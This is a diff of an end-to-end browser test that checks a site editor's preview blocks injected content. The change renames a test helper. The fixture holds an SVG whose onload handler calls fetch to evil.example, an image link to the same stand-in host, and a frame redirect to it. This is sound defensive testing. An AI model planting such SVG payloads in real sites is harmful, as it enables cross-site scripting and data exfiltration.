@@ -19,10 +19,10 @@ test.describe("attacks", () => {
 			`heading: '${markup.replaceAll("'", "''")}'`,
 		);
 		const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="fetch('https://evil.example/?svg')"><image href="https://evil.example/?image"/></svg>`;
-		site.facade.commitOutside({ "site.yaml": text, "images/loaf.svg": drawing });
+		site.fakeServer.commitOutside({ "site.yaml": text, "images/loaf.svg": drawing });
 		await signIn(page, site);
 		await expect(previewOf(page).getByText("?text")).toBeVisible();
-		site.facade.requests.length = 0;
+		site.fakeServer.requests.length = 0;
 		const frame = page.frames().find((one) => one.url().includes("/edit/frame"))!;
 		const reached = await frame.evaluate(async (editor) => {
 			const attempts: Record<string, () => unknown> = {
@@ -77,7 +77,7 @@ test.describe("attacks", () => {
 			location.href = "https://evil.example/?frame";
 		});
 		await expect.poll(() => page.frames().map((one) => one.url())).toContain("chrome-error://chromewebdata/");
-		expect([...reachedHosts, ...site.facade.requests]).toEqual([]);
+		expect([...reachedHosts, ...site.fakeServer.requests]).toEqual([]);
 		expect(page.url()).toBe(`${site.url}edit/`);
 	});
 
